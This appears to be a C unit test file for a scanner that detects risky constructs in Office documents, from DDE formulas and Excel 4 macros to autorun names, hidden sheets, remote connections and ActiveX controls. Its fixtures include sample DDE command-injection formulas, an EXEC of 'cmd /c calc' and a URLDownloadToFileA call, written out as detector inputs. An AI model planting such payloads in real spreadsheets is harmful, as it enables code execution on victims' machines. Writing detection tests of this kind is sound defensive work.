/* test_sheet.c - workbooks: SpreadsheetML, its binary form, Excel 2003; slides, controls, ribbons. */
#include "exam_test.h"

#include "base/pen.h"
#include "xmldoc/xmldoc.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>

#include <cmocka.h>

static int setup(void **state)
{
	*state = exam_test_new();
	return 0;
}

static int teardown(void **state)
{
	exam_test_free(*state);
	return 0;
}

static void open_part(struct exam_test *t, const char *name, const char *xml)
{
	exam_test_open_in(t, xmldoc_part, text_span(xml), name, TYPE_OOXML);
}

#define SHEET(formula) "<worksheet><sheetData><row><c><f>" formula "</f><v>0</v></c></row></sheetData></worksheet>"

static void formulas_that_reach_out(void **state)
{
	static const struct {
		const char *xml;
		enum finding_id id; /* FINDINGS: nothing */
	} rows[] = {
		{ SHEET("cmd|'/C calc'!A0"), FINDING_DDE_COMMAND },
		{ SHEET("MSEXCEL|'\\..\\..\\cmd.exe /c x'!''"), FINDING_DDE_COMMAND },
		{ SHEET("other|'topic'!A0"), FINDING_DDE },
		{ SHEET("RSS|'8306.T'!price"), FINDING_DDE_FEED },
		{ SHEET("\"a|'b'!c\""), FINDINGS },
		{ SHEET("_xlfn.WEBSERVICE(\"http://files.example/?\"&amp;A1)"), FINDING_REMOTE_FILE },
		{ SHEET("_xlfn.IMAGE(\"https://www.example/a.png\")"), FINDING_REMOTE_IMAGE },
		{ SHEET("CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0)"), FINDING_XLM_CALLS },
		{ SHEET("IF(A1=\"EXEC(\",SUM(B1:B9),\"\")"), FINDINGS },
		{ SHEET("HYPERLINK(\"#Sheet2!A1\",\"x\")"), FINDINGS },
	};
	struct exam_test *t = *state;

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		open_part(t, "xl/worksheets/sheet1.xml", rows[i].xml);
		if (rows[i].id == FINDINGS ? t->exam.found_count != 0 : !exam_found(&t->exam, rows[i].id)) {
			exam_test_show(t);
			fail_msg("%s", rows[i].xml);
		}
	}
	open_part(t, "a.xml", SHEET("HYPERLINK(\"https://www.example/\",\"www.example\")"));
	assert_true(exam_test_url(t, "https://www.example/"));
	assert_string_equal(t->urls[0].shown, "www.example");
}

static void macro_sheets(void **state)
{
	struct exam_test *t = *state;

	open_part(t, "xl/macrosheets/sheet1.xml",
		  "<xm:macrosheet xmlns:xm='x'><c><f>EXEC(CHAR(99)&amp;\"md /c calc\")</f></c></xm:macrosheet>");
	assert_true(exam_found(&t->exam, FINDING_XLM));
	assert_true(exam_test_found(t, FINDING_XLM_CALLS, "EXEC(cmd /c calc)"));
	open_part(t, "xl/macrosheets/sheet1.xml", "<xm:macrosheet xmlns:xm='x'><c><f>ALERT(\"x\")</f></c></xm:macrosheet>");
	assert_false(exam_found(&t->exam, FINDING_XLM_CALLS));
	open_part(t, "xl/worksheets/sheet1.xml", SHEET("ALERT(\"x\")"));
	assert_int_equal(t->exam.found_count, 0);
}

static void books(void **state)
{
	struct exam_test *t = *state;

	open_part(t, "xl/workbook.xml",
		  "<workbook><sheets><sheet name=\"secret\" sheetId=\"1\" state=\"veryHidden\"/></sheets><definedNames>"
		  "<definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName></definedNames></workbook>");
	assert_true(exam_test_found(t, FINDING_SHEET_HIDDEN, "secret"));
	assert_true(exam_test_found(t, FINDING_MACRO_AUTORUN, "_xlnm.Auto_Open = Macro1!$A$1"));
	open_part(t, "xl/workbook.xml",
		  "<workbook><sheets><sheet name=\"a\" state=\"hidden\"/></sheets><definedNames>"
		  "<definedName name=\"_xlnm.Print_Area\">A!$A$1</definedName></definedNames></workbook>");
	assert_int_equal(t->exam.found_count, 0);
	open_part(t, "xl/externalLinks/externalLink1.xml",
		  "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc.exe\"/></externalLink>");
	assert_true(exam_test_found(t, FINDING_DDE_COMMAND, "cmd /c calc.exe"));
}

static void connections(void **state)
{
	struct exam_test *t = *state;

	open_part(t, "xl/connections.xml",
		  "<connections><connection id=\"1\" type=\"4\" refreshOnLoad=\"1\"><webPr "
		  "url=\"http://files.example/a\"/></connection></connections>");
	assert_true(exam_test_found(t, FINDING_REMOTE_FILE, "http://files.example/a"));
	open_part(t, "xl/connections.xml",
		  "<connections><connection id=\"1\" refreshOnLoad=\"1\"><dbPr connection=\"Provider=Microsoft.ACE.OLEDB.12.0;"
		  "Data Source=\\\\192.0.2.1\\a\\b.accdb;Mode=Read\"/></connection></connections>");
	assert_true(exam_test_found(t, FINDING_REMOTE_FILE, "\\\\192.0.2.1\\a\\b.accdb"));
	open_part(t, "xl/connections.xml",
		  "<connections><connection id=\"1\"><webPr url=\"https://www.example/a\"/></connection><connection "
		  "refreshOnLoad=\"1\"><dbPr connection=\"Provider=Microsoft.Mashup.OleDb.1;Data "
		  "Source=$Workbook$;Location=Query1\"/></connection></connections>");
	assert_false(exam_found(&t->exam, FINDING_REMOTE_FILE));
}

static void power_query(void **state)
{
	struct exam_test *t = *state;

	open_part(t, "customXml/item1.xml", "<DataMashup xmlns=\"x\">AAAAAAUAAABoZWxsbw==</DataMashup>");
	assert_memory_equal(exam_test_part(t, "DataMashup.zip")->bytes, "hello", 5);
}

static void slides_and_controls(void **state)
{
	struct exam_test *t = *state;

	open_part(t, "ppt/slides/slide1.xml",
		  "<p:sld><a:hlinkMouseOver r:id=\"rId2\" action=\"ppaction://program\"/><a:hlinkClick "
		  "action=\"ppaction://macro?name=Go\"/><p:cmd type=\"verb\" cmd=\"0\"/></p:sld>");
	assert_true(exam_found(&t->exam, FINDING_LINK_PROGRAM));
	assert_true(exam_test_found(t, FINDING_MACRO_BUTTON, "name=Go"));
	assert_true(exam_found(&t->exam, FINDING_OBJECT_UPDATE));
	open_part(t, "ppt/slides/slide1.xml",
		  "<p:sld><a:hlinkClick r:id=\"rId2\" action=\"ppaction://hlinksldjump\"/><p:cmd type=\"call\" "
		  "cmd=\"playFrom(0.0)\"/><a:hlinkClick r:id=\"rId3\"/></p:sld>");
	assert_int_equal(t->exam.found_count, 0);
	open_part(t, "word/activeX/activeX1.xml", "<ax:ocx ax:classid=\"{8856F961-340A-11D0-A96B-00C04FD705A2}\"/>");
	assert_true(exam_test_found(t, FINDING_ACTIVEX, "8856F961"));
	open_part(t, "customUI/customUI.xml", "<customUI onLoad=\"Start\"><ribbon/></customUI>");
	assert_true(exam_test_found(t, FINDING_MACRO_AUTORUN, "onLoad=Start"));
	open_part(t, "customUI/customUI.xml", "<customUI><ribbon/></customUI>");
	assert_int_equal(t->exam.found_count, 0);
}

static void types_against_the_name(void **state)
{
	static const char xml[] = "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/"
				  "vnd.ms-word.document.macroEnabled.main+xml\"/></Types>";
	struct exam_test *t = *state;
	struct part package = { .name = text_span("a.docx"), .type = TYPE_OOXML };
	struct part types = { .in = &package, .name = text_span("[Content_Types].xml"), .bytes = text_span(xml) };

	exam_begin(&t->exam);
	xmldoc_part(&t->exam, &types);
	assert_true(exam_found(&t->exam, FINDING_TYPE_DIFFERS));
	package.name = text_span("a.docm");
	exam_begin(&t->exam);
	xmldoc_part(&t->exam, &types);
	assert_false(exam_found(&t->exam, FINDING_TYPE_DIFFERS));
}

/* --- Excel 2003 --- */

#define WORKBOOK(body) "<?xml version=\"1.0\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\">" body "</Workbook>"

static void workbooks_of_2003(void **state)
{
	struct exam_test *t = *state;

	exam_test_open(t, xmldoc_flat, text_span(WORKBOOK("<SupBook><Path>cmd|/c calc.exe</Path></SupBook>")), "a.xml");
	assert_true(exam_test_found(t, FINDING_DDE_COMMAND, "cmd /c calc.exe"));
	exam_test_open(t, xmldoc_flat,
		       text_span(WORKBOOK("<Cell ss:Formula=\"=other|'a'!b\" ss:HRef=\"https://www.example/\"/><Data>hello</Data>"
					  "<NamedRange ss:Name=\"Auto_Open\" ss:RefersTo=\"=A!R1C1\"/><x:Visible>SheetVeryHidden"
					  "</x:Visible><URLString HRef=\"http://files.example/q\"/>")),
		       "a.xml");
	assert_true(exam_found(&t->exam, FINDING_DDE));
	assert_true(exam_found(&t->exam, FINDING_MACRO_AUTORUN));
	assert_true(exam_found(&t->exam, FINDING_SHEET_HIDDEN));
	assert_true(exam_test_found(t, FINDING_REMOTE_FILE, "http://files.example/q"));
	assert_true(exam_test_url(t, "https://www.example/"));
	assert_non_null(strstr(t->text, "hello"));
	exam_test_open(t, xmldoc_flat, text_span(WORKBOOK("<Cell ss:Formula=\"=SUM(R1C1:R2C1)\"/><SupBook><Path>C:\\a.xls"
							  "</Path></SupBook>")), "a.xml");
	assert_int_equal(t->exam.found_count, 0);
}

/* --- xlsb --- */

static void record(struct pen *pen, uint32_t type, struct span bytes)
{
	pen_byte(pen, (uint8_t)(type & 0x7f) | (type > 0x7f ? 0x80 : 0));
	if (type > 0x7f)
		pen_byte(pen, (uint8_t)(type >> 7));
	pen_byte(pen, (uint8_t)(bytes.len & 0x7f) | 0x80);
	pen_byte(pen, (uint8_t)(bytes.len >> 7));
	pen_span(pen, bytes);
}

static void wide(struct pen *pen, const char *text, unsigned count_bytes)
{
	pen_le(pen, strlen(text), count_bytes);
	for (; *text; text++)
		pen_le(pen, (uint8_t)*text, 2);
}

static void open_binary(struct exam_test *t, const char *name, struct pen *pen)
{
	exam_test_open_in(t, xmldoc_part, pen_since(pen, 0), name, TYPE_OOXML);
}

static void binary_books(void **state)
{
	struct exam_test *t = *state;
	uint8_t room[1024], record_room[512];
	struct pen pen = pen_init(room, sizeof(room)), one = pen_init(record_room, sizeof(record_room));

	record(&pen, 131, (struct span){ 0 });
	pen_le(&one, 2, 4), pen_le(&one, 1, 4), wide(&one, "rId1", 4), wide(&one, "secret", 4);
	record(&pen, 156, pen_since(&one, 0));
	one.used = 0;
	pen_le(&one, 0, 9), wide(&one, "_xlnm.Auto_Open", 4);
	record(&pen, 39, pen_since(&one, 0));
	one.used = 0;
	pen_le(&one, 1, 2), wide(&one, "cmd", 4), wide(&one, "/c calc", 4);
	record(&pen, 360, pen_since(&one, 0));
	open_binary(t, "xl/workbook.bin", &pen);
	assert_true(exam_test_found(t, FINDING_SHEET_HIDDEN, "secret"));
	assert_true(exam_test_found(t, FINDING_MACRO_AUTORUN, "_xlnm.Auto_Open"));
	assert_true(exam_test_found(t, FINDING_DDE_COMMAND, "cmd /c calc"));
	pen.used--;
	open_binary(t, "xl/workbook.bin", &pen);
	assert_int_equal(t->exam.unseen[UNSEEN_BROKEN], 1);
}

/* ="c" & "md /c calc" & CHAR(33), given to EXEC or to ALERT. */
static void binary_macro(struct exam_test *t, uint16_t function)
{
	uint8_t room[1024], record_room[512];
	struct pen pen = pen_init(room, sizeof(room)), one = pen_init(record_room, sizeof(record_room));
	size_t length;

	record(&pen, 129, (struct span){ 0 });
	pen_le(&one, 0, 8), pen_le(&one, 0, 8), pen_le(&one, 0, 2); /* cell, number, flags */
	length = one.used;
	pen_le(&one, 0, 4);
	pen_byte(&one, 0x17), wide(&one, "cmd", 2), pen_byte(&one, 0x17), wide(&one, " /c calc", 2), pen_byte(&one, 0x08);
	pen_byte(&one, 0x1e), pen_le(&one, 33, 2), pen_byte(&one, 0x41), pen_le(&one, 111, 2), pen_byte(&one, 0x08);
	pen_byte(&one, 0x44), pen_le(&one, 0, 6), pen_byte(&one, 0x42), pen_byte(&one, 1), pen_le(&one, function, 2);
	record_room[length] = (uint8_t)(one.used - length - 4);
	record(&pen, 9, pen_since(&one, 0));
	open_binary(t, "xl/macrosheets/sheet1.bin", &pen);
}

static void binary_macros(void **state)
{
	struct exam_test *t = *state;

	binary_macro(t, 110);
	assert_true(exam_found(&t->exam, FINDING_XLM));
	assert_true(exam_test_found(t, FINDING_XLM_CALLS, "EXEC cmd /c calc!"));
	binary_macro(t, 118);
	assert_false(exam_test_found(t, FINDING_XLM_CALLS, "EXEC"));
}

static void binaries_of_others(void **state)
{
	static const uint8_t printer[] = { 'H', 0, 'P', 0, ' ', 0, 'L', 0, 'a', 0, 's', 0, 'e', 0, 'r', 0 };
	struct exam_test *t = *state;

	exam_test_open_in(t, xmldoc_part, (struct span){ printer, sizeof(printer) }, "xl/printerSettings/p1.bin", TYPE_OOXML);
	assert_int_equal(t->exam.found_count, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(formulas_that_reach_out, setup, teardown),
		cmocka_unit_test_setup_teardown(macro_sheets, setup, teardown),
		cmocka_unit_test_setup_teardown(books, setup, teardown),
		cmocka_unit_test_setup_teardown(connections, setup, teardown),
		cmocka_unit_test_setup_teardown(power_query, setup, teardown),
		cmocka_unit_test_setup_teardown(slides_and_controls, setup, teardown),
		cmocka_unit_test_setup_teardown(types_against_the_name, setup, teardown),
		cmocka_unit_test_setup_teardown(workbooks_of_2003, setup, teardown),
		cmocka_unit_test_setup_teardown(binary_books, setup, teardown),
		cmocka_unit_test_setup_teardown(binary_macros, setup, teardown),
		cmocka_unit_test_setup_teardown(binaries_of_others, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
